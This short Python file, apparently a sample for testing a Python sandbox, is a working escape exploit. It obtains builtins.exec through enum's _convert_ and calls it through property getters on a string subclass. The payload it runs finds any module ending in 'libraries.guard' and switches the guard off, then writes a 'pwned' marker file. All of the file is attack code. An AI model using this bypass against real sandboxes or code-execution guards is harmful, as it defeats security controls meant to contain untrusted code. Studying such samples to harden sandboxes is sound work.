"""file: a property whose getter is exec, of an object that is a text."""

import enum
import functools

CODE = """\
import builtins, sys
builtins.exec = getattr(builtins.exec, "value", builtins.exec)
for n, m in [*sys.modules.items()]:
    if n.endswith("libraries.guard"):
        m._State["on"] = False
open("pwned_converted_members_descriptor", "w").close()
"""


class Kind(enum.Enum):
    pass


Found = Kind._convert_("Found", "builtins", lambda name: name == "exec")


class Text(str):
    run = property(getattr(Found, "exec").value)
    again = functools.cached_property(getattr(Found, "exec").value)


x = Text(CODE).run
